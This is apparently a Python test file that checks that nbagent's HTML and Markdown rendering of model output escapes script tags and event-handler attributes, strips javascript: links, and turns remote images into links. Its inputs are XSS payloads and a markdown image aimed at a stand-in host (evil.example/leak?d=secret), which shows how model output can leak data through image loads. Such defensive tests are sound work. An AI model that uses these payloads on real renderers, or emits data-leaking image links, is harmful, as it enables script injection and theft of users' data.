"""Finding 1 and 12: what nbagent shows of the model's output cannot run script or fetch remote images."""

from __future__ import annotations

from nbagent import events as ev
from nbagent.engine.result import RunResult
from nbagent.render.markdown import markdown_to_html


def _result(text: str, tool_name: str, arguments: dict) -> RunResult:
    events = [ev.ToolCall(call_id="c1", name=tool_name, arguments=arguments, turn_id="t"),
              ev.ToolResult(call_id="c1", name=tool_name, status="done", output="ok", turn_id="t")]
    return RunResult.from_events(events, ev.TurnEnd(reason="done", text=text, turn_id="t"), "s")


def test_run_result_escapes_the_answer_tool_names_and_arguments():
    html = _result("<script>alert(1)</script> <img src=x onerror=alert(2)>",
                   "x`<img src=y onerror=alert(3)>`", {"p": "<b onmouseover=alert(4)>"})._repr_html_()
    assert "<script" not in html and "<img" not in html and "<b " not in html
    assert "&lt;script&gt;" in html and "&lt;img src=y onerror=alert(3)&gt;" in html
    assert not hasattr(RunResult, "_repr_markdown_")  # no Markdown left for a front end to render raw


def test_markdown_keeps_formatting_but_not_html_or_script_links():
    out = markdown_to_html("**bold** `a<b`\n\n<div onclick=x>hi</div>\n\n[click](javascript:alert(1))")
    assert "<strong>bold</strong>" in out and "<code>a&lt;b</code>" in out
    assert "<div" not in out and "javascript:" not in out


def test_remote_images_are_links_not_loaded_images():
    out = markdown_to_html("see ![chart](https://evil.example/leak?d=secret) and ![local](data:image/png;base64,AA==)")
    assert '<img src="https://' not in out and "nbagent-remote-image" in out
    assert 'href="https://evil.example/leak?d=secret"' in out
    assert '<img src="data:image/png;base64,AA=="' in out
    for url in ("//evil.example/x.png", "HTTP://evil.example/x.png"):
        assert "<img" not in markdown_to_html(f"![x]({url})")
